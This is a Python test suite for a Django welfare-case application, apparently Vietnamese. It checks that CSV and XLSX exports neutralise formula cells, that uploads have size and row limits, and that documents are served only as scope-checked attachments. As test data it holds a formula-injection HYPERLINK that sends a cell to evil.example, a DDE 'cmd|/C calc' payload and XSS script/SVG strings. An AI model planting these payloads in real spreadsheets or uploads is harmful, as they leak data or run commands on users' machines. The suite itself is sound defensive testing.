"""Issue 15, findings 4–6 (safe files): no CSV or XLSX cell the product writes is a formula; uploads
have size, line and type limits; documents are served only through scope-checked views, as
attachments, and never from /media/."""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import beneficiaries.exporting
import disbursements.exporting
import households.exporting
import povertyreview.exporting
from beneficiaries import services as allowance_services
from beneficiaries.forms import DocumentForm
from beneficiaries.models import Document
from beneficiaries.services import CategoryChoice, PaymentDetails
from core.documents import document_problem
from core.tabular import cell_text, csv_writer, neutralise, xlsx_row
from households.importing import COLUMNS
from households.models import Household, Person
from povertyreview.forms import MeetingForm
from povertyreview.models import Campaign, ReviewPeriod, VillageMeeting
from povertyreview.standard_data import load_standards
from privacy.models import AccessRecord
from support.forms import EvidenceForm
from tests.households.factories import make_household
from tests.households.test_import import csv_bytes, line, member

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
PDF = b"%PDF-1.4\n% a scanned form\n"


# --- CSV: every text cell starting like a formula is neutralised; numbers stay numbers ---------------

# Each starting character (tab and CR too), a plain name, and numbers (a negative one included).
HOSTILE = [FORMULA, "+84912345678", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tx", "\rx", "Nguyễn Thị Hoa", -5, 1_500]
NEUTRALISED = ["'" + FORMULA, "'+84912345678", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\tx", "'\rx",
               "Nguyễn Thị Hoa", "-5", "1500"]  # fmt: skip


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_shared_writer_neutralises_text_and_never_a_number():
    stream = io.StringIO(newline="")

    csv_writer(stream).writerow(HOSTILE)

    assert csv_cells(stream.getvalue()) == [NEUTRALISED]
    assert neutralise(-5) == -5 and neutralise(0.5) == 0.5 and neutralise("") == ""


def test_an_exported_cell_reads_back_as_it_was():
    # What the export adds, the import takes off: an exported file imports back unchanged.
    assert [cell_text(cell, "full_name") for cell in NEUTRALISED[:6]] == [FORMULA, "+84912345678",
                                                                          "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                                                                          "x", "x"]  # fmt: skip
    assert cell_text("'quoted", "full_name") == "'quoted"  # an apostrophe before anything else stays


def _stream_csv(write, *args) -> str:
    stream = io.StringIO(newline="")
    write(*args, stream)
    return stream.getvalue()


def _join(chunks) -> str:
    return "".join(chunks)


# One by one, every CSV the product writes from rows (the registry export is tried end to end below):
# module, the row generator the writers read, and how to get the CSV text.
CSV_EXPORTS = {
    "beneficiaries write_csv (command)": (
        beneficiaries.exporting,
        "export_rows",
        lambda: _stream_csv(beneficiaries.exporting.write_csv, None),
    ),
    "beneficiaries csv_chunks (page)": (
        beneficiaries.exporting,
        "export_rows",
        lambda: _join(beneficiaries.exporting.csv_chunks(None)),
    ),
    "payments write_csv (command)": (
        disbursements.exporting,
        "payment_rows",
        lambda: _stream_csv(disbursements.exporting.write_csv, None),
    ),
    "payments csv_chunks (page)": (
        disbursements.exporting,
        "payment_rows",
        lambda: _join(disbursements.exporting.csv_chunks(None)),
    ),
    "classification write_csv (command)": (
        povertyreview.exporting,
        "export_rows",
        lambda: _stream_csv(povertyreview.exporting.write_csv, None),
    ),
    "classification csv_chunks (page)": (
        povertyreview.exporting,
        "export_rows",
        lambda: _join(povertyreview.exporting.csv_chunks(None)),
    ),
    "households write_csv (command)": (
        households.exporting,
        "export_rows",
        lambda: _stream_csv(households.exporting.write_csv, None),
    ),
}


@pytest.mark.parametrize("export", sorted(CSV_EXPORTS))
def test_each_csv_export_neutralises_formulas(export, monkeypatch):
    module, generator, text = CSV_EXPORTS[export]
    monkeypatch.setattr(module, generator, lambda *args, **kwargs: iter([["header"] * len(HOSTILE), HOSTILE]))

    assert csv_cells(text()) == [["header"] * len(HOSTILE), NEUTRALISED]


@pytest.fixture
def hostile_household(units):
    household = make_household(units.tan_dong, units.tan_dong_village, code="TD-EVIL", members=(
        ("Nguyễn Văn An", "M", date(1970, 1, 1), "head"), (FORMULA, "F", date(1972, 3, 4), "spouse"),
    ))  # fmt: skip
    Person.objects.filter(full_name=FORMULA).update(phone="+84912345678")
    return household


def test_the_registry_export_page_neutralises_a_member_named_like_a_formula(client_for, hostile_household):
    response = client_for("tandong_officer").get(reverse("households:export"), {"format": "csv"})

    rows = csv_cells(b"".join(response.streaming_content).decode())
    spouse = next(row for row in rows if row[COLUMNS.index("relationship")] == "spouse")
    assert (spouse[COLUMNS.index("full_name")], spouse[COLUMNS.index("phone")]) == ("'" + FORMULA, "'+84912345678")
    assert spouse[COLUMNS.index("date_of_birth")] == "1972-03-04"


# --- XLSX: text is typed as text, never a formula ----------------------------------------------------

XLSX_EXPORTS = {
    "households": (households.exporting, "export_rows"),
    "beneficiaries": (beneficiaries.exporting, "export_rows"),
    "payments": (disbursements.exporting, "payment_rows"),
    "classification": (povertyreview.exporting, "export_rows"),
}


@pytest.mark.parametrize("export", sorted(XLSX_EXPORTS))
def test_each_xlsx_export_writes_text_as_text(export, monkeypatch):
    module, generator = XLSX_EXPORTS[export]
    monkeypatch.setattr(module, generator, lambda *args, **kwargs: iter([["header"] * 3, [FORMULA, "-5", -5]]))
    stream = io.BytesIO()

    module.write_xlsx(None, stream)

    cells = list(openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.iter_rows(min_row=2))[0]
    assert [(cell.value, cell.data_type) for cell in cells] == [(FORMULA, "s"), ("-5", "s"), (-5, "n")]


def test_xlsx_row_works_on_a_normal_sheet_too():
    # reports.exports.table_xlsx writes a normal (not write-only) workbook through the same helper.
    workbook = openpyxl.Workbook()
    workbook.active.append(xlsx_row(workbook.active, [FORMULA, 3]))
    stream = io.BytesIO()
    workbook.save(stream)

    cells = next(openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells] == [(FORMULA, "s"), (3, "n")]


def test_the_registry_xlsx_page_writes_the_name_as_text(client_for, hostile_household):
    response = client_for("tandong_officer").get(reverse("households:export"), {"format": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [row[COLUMNS.index("full_name")] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in names] == [("Nguyễn Văn An", "s"), (FORMULA, "s")]


# --- bank files: exempt, their formats forbid such a cell ---------------------------------------------


def test_bank_text_keeps_only_upper_case_letters_digits_and_spaces():
    assert disbursements.exporting.bank_text(FORMULA) == "HYPERLINK HTTP EVIL EXAMPLE D A1 BAM VAO DAY"
    assert disbursements.exporting.bank_text("Nguyễn Thị Hoa") == "NGUYEN THI HOA"


@pytest.mark.parametrize("field", ["=1+1", "+84", "-5", "@A1", "\tX", "\rX", "nguyen", "X,Y"])
def test_the_bank_file_writer_refuses_a_field_outside_its_format(field, monkeypatch):
    monkeypatch.setattr(disbursements.exporting, "bank_rows", lambda run, bank_bin: iter([["h"], ["12-3", field]]))

    with pytest.raises(ValueError, match="bank file field"):
        disbursements.exporting.bank_csv(None, "970436")


def test_the_bank_file_writer_takes_its_own_format(monkeypatch):
    row = ["12-345", "0011001234567", "NGUYEN THI HOA", 1_000_000, "TCXH 2026-05 12-345"]
    monkeypatch.setattr(disbursements.exporting, "bank_rows", lambda run, bank_bin: iter([["h"], row]))

    assert disbursements.exporting.bank_csv(None, "970436") == (
        b"h\r\n12-345,0011001234567,NGUYEN THI HOA,1000000,TCXH 2026-05 12-345\r\n"
    )


# --- import limits: size, unpacked size, lines; refused with the limit named, nothing saved ------------


def post_import(client, content: bytes, name: str, *, dry_run: bool = False):
    data = {"file": SimpleUploadedFile(name, content)}
    if dry_run:
        data["dry_run"] = "on"
    return client.post(reverse("households:import"), data)


def three_lines() -> bytes:
    return csv_bytes([line(), member(1), member(2)])


def test_an_import_over_the_size_limit_is_refused_and_nothing_saved(client_for, units, settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 100
    content = three_lines()
    assert len(content) > 100

    response = post_import(client_for("tandong_officer", language="en"), content, "households.csv")

    assert response.status_code == 200
    assert response.context["form"].errors == {
        "file": [f"The file is {len(content)} B: files larger than 100 B are refused. Split it and send each part."]
    }
    assert (Household.objects.count(), Person.objects.count()) == (0, 0)


def test_an_import_over_the_size_limit_is_refused_in_vietnamese(client_for, units, settings):
    content = xlsx_of(1)  # over 1 KB
    settings.IMPORT_MAX_UPLOAD_BYTES = 2_048

    response = post_import(client_for("tandong_officer"), content, "households.xlsx")

    assert response.context["form"].errors == {
        "file": [
            f"Tệp có dung lượng {len(content) // 1024 + 1} KB: không nhận tệp lớn hơn 2 KB. Hãy tách tệp và gửi "
            "từng phần."
        ]
    }
    assert Household.objects.count() == 0


def test_an_import_over_the_line_limit_is_refused_and_nothing_saved(client_for, units, settings):
    settings.IMPORT_MAX_ROWS = 2

    response = post_import(client_for("tandong_officer", language="en"), three_lines(), "households.csv")

    assert response.context["form"].errors == {
        "file": [
            "The file has more than 2 lines: nothing was imported. Split it into files of at most 2 lines (for "
            "example one per village) and import each one."
        ]
    }
    assert (Household.objects.count(), Person.objects.count()) == (0, 0)


def xlsx_of(rows: int) -> bytes:
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("households")
    sheet.append(COLUMNS)
    for index in range(rows):
        sheet.append([f"TD-{index}", "25522", "Ấp Đông Hà", "", "", "", "Nguyễn Văn A", "1980-01-01", "M", "head"])
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def test_an_xlsx_over_the_line_limit_is_refused_at_the_first_line_past_it(client_for, units, settings):
    settings.IMPORT_MAX_ROWS = 1_000

    response = post_import(client_for("tandong_officer", language="en"), xlsx_of(1_001), "h.xlsx", dry_run=True)

    assert response.context["form"].errors["file"][0].startswith("The file has more than 1,000 lines")
    assert Household.objects.count() == 0


def test_an_xlsx_at_the_line_limit_is_read(client_for, units, settings):
    settings.IMPORT_MAX_ROWS = 3

    response = post_import(client_for("tandong_officer", language="en"), xlsx_of(3), "h.xlsx", dry_run=True)

    assert response.status_code == 200
    assert "report" in response.context  # read, then checked line by line


def test_a_workbook_that_unpacks_past_the_limit_is_refused(client_for, units, settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 2_000

    response = post_import(client_for("tandong_officer", language="en"), xlsx_of(50), "h.xlsx")

    [error] = response.context["form"].errors["file"]
    assert error.startswith("The workbook unpacks to ") and error.endswith(
        ": workbooks larger than 2 KB unpacked are refused."
    )
    assert Household.objects.count() == 0


def test_a_file_that_is_not_a_workbook_is_refused(client_for, units):
    response = post_import(client_for("tandong_officer", language="en"), b"not a zip", "h.xlsx")

    assert response.context["form"].errors == {"file": ["The file is not a readable XLSX workbook."]}


# --- documents: allowed types, size, served as attachments within scope, never from /media/ ------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def case(units, users):
    household = make_household(units.tan_dong, units.tan_dong_village, code="TD-DOC")
    return allowance_services.case_apply(
        person=household.head, commune=units.tan_dong, categories=[CategoryChoice("5.5a")],
        applied_on=date(2025, 11, 1), payment=PaymentDetails(method="cash"), acting_user=users["tandong_officer"],
    )  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("page.html", b"<script>alert(1)</script>", "only PDF, JPEG and PNG files are accepted"),
        ("image.svg", b"<svg onload=alert(1)>", "only PDF, JPEG and PNG files are accepted"),
        ("list.xlsx", b"PK\x03\x04", "only PDF, JPEG and PNG files are accepted"),
        ("scan.pdf", b"<html><script>alert(1)</script>", "the file's content is not the PDF its name says: only "
                                                          "PDF, JPEG and PNG files are accepted"),
        ("photo.jpg", b"\x89PNG\r\n\x1a\n", "the file's content is not the JPG its name says: only PDF, JPEG "
                                            "and PNG files are accepted"),
    ],
)  # fmt: skip
def test_a_document_of_a_type_not_allowed_is_refused_and_nothing_saved(name, content, problem, client_for, case, media):
    response = client_for("tandong_officer", language="en").post(
        reverse("beneficiaries:document", kwargs={"case_uuid": case.uuid}),
        {"title": "Đơn", "file": SimpleUploadedFile(name, content)},
    )

    assert response.status_code == 200
    assert response.context["form"].errors == {"file": [problem]}
    assert not Document.objects.exists()
    assert list(media.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "content"), [("scan.pdf", PDF), ("photo.JPG", b"\xff\xd8\xff\xe0 jfif"), ("p.png", b"\x89PNG\r\n\x1a\n")]
)
def test_pdf_jpeg_and_png_are_accepted(name, content):
    assert document_problem(SimpleUploadedFile(name, content)) is None


def test_a_document_over_the_size_limit_is_refused_by_the_service_too(case, users, media, settings):
    settings.DOCUMENT_MAX_UPLOAD_BYTES = 10

    with pytest.raises(ValidationError) as refused:
        allowance_services.document_add(
            case=case, title="Đơn", file=SimpleUploadedFile("scan.pdf", PDF), acting_user=users["tandong_officer"]
        )

    assert refused.value.message_dict == {"file": [f"the file is {len(PDF)} B: files larger than 10 B are refused"]}
    assert not Document.objects.exists()
    assert list(media.iterdir()) == []


def test_every_document_form_checks_the_type():
    upload = {"file": SimpleUploadedFile("page.html", b"<html>")}
    assert DocumentForm({"title": "x"}, upload).errors["file"] == ["only PDF, JPEG and PNG files are accepted"]
    evidence = EvidenceForm({"kind": "photo"}, {"file": SimpleUploadedFile("page.html", b"<html>")})
    assert evidence.errors["file"] == ["only PDF, JPEG and PNG files are accepted"]
    minutes = MeetingForm({}, {"minutes": SimpleUploadedFile("page.html", b"<html>")}, pending=[])
    assert minutes.errors["minutes"] == ["only PDF, JPEG and PNG files are accepted"]


@pytest.fixture
def document(case, users, media):
    return allowance_services.document_add(
        case=case, title="Đơn", file=SimpleUploadedFile("don-de-nghi.pdf", PDF), acting_user=users["tandong_officer"]
    )


def test_a_document_is_served_as_an_attachment_to_whoever_sees_the_case(client_for, case, document):
    url = reverse("beneficiaries:document_file", kwargs={"case_uuid": case.uuid, "document_id": document.pk})
    page = client_for("tandong_officer").get(reverse("beneficiaries:detail", kwargs={"case_uuid": case.uuid}))

    served = client_for("tandong_chair").get(url)

    assert f'href="{url}"' in page.content.decode()
    assert served.status_code == 200
    assert b"".join(served.streaming_content) == PDF
    assert served["Content-Disposition"] == 'attachment; filename="don-de-nghi.pdf"'
    assert served["Content-Type"] == "application/pdf"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Cache-Control"] == "private, no-store"
    # the download is the person's data leaving the product: recorded, with who and which document
    assert list(AccessRecord.objects.filter(what="beneficiaries:document_file").values_list(
        "user__username", "purpose", "person_ids", "filters"
    )) == [("tandong.chair", "export", [case.person_id], {"document": document.pk})]  # fmt: skip


def test_a_document_is_404_to_another_commune_and_the_login_page_to_anonymous_users(client_for, case, document):
    url = reverse("beneficiaries:document_file", kwargs={"case_uuid": case.uuid, "document_id": document.pk})

    assert client_for("binhminh_officer").get(url).status_code == 404
    assert client_for("hcm_province").get(url).status_code == 404
    anonymous = client_for("anonymous").get(url)
    assert (anonymous.status_code, anonymous["Location"]) == (302, f"{reverse('accounts:login')}?next={url}")
    # Another case's document id under this case is 404 too.
    other = reverse("beneficiaries:document_file", kwargs={"case_uuid": case.uuid, "document_id": document.pk + 1})
    assert client_for("tandong_officer").get(other).status_code == 404
    assert not AccessRecord.objects.exists()  # a refused look is not an access


@pytest.fixture
def meeting(units, users, media):
    load_standards()
    review = Campaign.objects.create(
        commune=units.tan_dong, year=2025, standard=ReviewPeriod.objects.get(year=2025).standard
    )
    return VillageMeeting.objects.create(
        campaign=review, village=units.tan_dong_village, held_on=date(2025, 11, 5), chaired_by="Trưởng ấp",
        attendees=30, minutes=ContentFile(PDF, name="bien-ban.pdf"), recorded_by=users["tandong_officer"],
    )  # fmt: skip


def test_meeting_minutes_are_served_as_an_attachment_within_scope(client_for, meeting):
    url = reverse(
        "povertyreview:meeting_minutes", kwargs={"campaign_id": meeting.campaign_id, "meeting_id": meeting.pk}
    )
    page = client_for("tandong_committee").get(
        reverse("povertyreview:meetings", kwargs={"campaign_id": meeting.campaign_id})
    )

    served = client_for("tandong_committee").get(url)

    assert f'href="{url}"' in page.content.decode()
    assert b"".join(served.streaming_content) == PDF
    assert served["Content-Disposition"] == 'attachment; filename="bien-ban.pdf"'
    assert served["X-Content-Type-Options"] == "nosniff"
    assert client_for("binhminh_officer").get(url).status_code == 404
    assert client_for("anonymous").get(url).status_code == 302


def test_media_is_never_served(client_for, document, media):
    assert default_storage.exists(document.file.name)

    for user in ("anonymous", "tandong_officer"):
        assert client_for(user).get(f"/media/{document.file.name}").status_code == 404


def test_an_xlsx_upload_is_read_in_streaming_mode(monkeypatch):
    # The reader asks openpyxl for its read-only (streaming) mode, and closes the workbook.
    import openpyxl as module

    from core.tabular import xlsx_table

    calls = []
    real = module.load_workbook
    monkeypatch.setattr(module, "load_workbook", lambda *a, **k: calls.append(k) or real(*a, **k))

    assert xlsx_table(io.BytesIO(xlsx_of(1)), max_rows=5)[1][:2] == ["TD-0", "25522"]
    assert calls == [{"read_only": True, "data_only": True}]


def test_a_zip_that_is_not_a_workbook_is_refused():
    from core.tabular import xlsx_table

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hi")
    buffer.seek(0)
    with pytest.raises(ValidationError):
        xlsx_table(buffer, max_rows=5)


def test_a_workbook_over_the_line_limit_is_refused_before_openpyxl_opens_it(monkeypatch, settings):
    # The rows are counted on the sheet's XML as it unpacks, stopping past the limit: openpyxl, which
    # scans the whole sheet to open it, never sees the file.
    import openpyxl as module

    from core.tabular import read_table

    content = xlsx_of(3_000)
    monkeypatch.setattr(module, "load_workbook", lambda *args, **kwargs: pytest.fail("opened"))
    settings.IMPORT_MAX_ROWS = 1_000

    with pytest.raises(ValidationError) as refused:
        read_table(io.BytesIO(content), "h.xlsx")

    assert refused.value.code == "too_many_rows"


@pytest.mark.parametrize(("limit", "over"), [(4, True), (5, True), (6, False)])
def test_the_row_count_of_a_sheet(limit, over):
    from core.tabular import sheet_rows_over

    assert sheet_rows_over(io.BytesIO(xlsx_of(5)), limit) is over  # the header and 5 lines: 6 rows


def test_a_file_the_operator_gives_a_command_has_no_upload_limits(settings, tmp_path):
    # manage.py imports read a file already on the server (core.importing.command_read): a commune of
    # 100,000 households has a survey of 100,000 lines, more than a page takes.
    from core.importing import command_read
    from core.tabular import read_table

    settings.IMPORT_MAX_ROWS, settings.IMPORT_MAX_UPLOAD_BYTES = 2, 100
    path = tmp_path / "households.csv"
    path.write_bytes(three_lines())

    assert len(command_read(str(path), read_table)) == 4  # the header and three lines
    with pytest.raises(ValidationError), path.open("rb") as stream:
        read_table(stream, path.name)  # the same file uploaded: refused
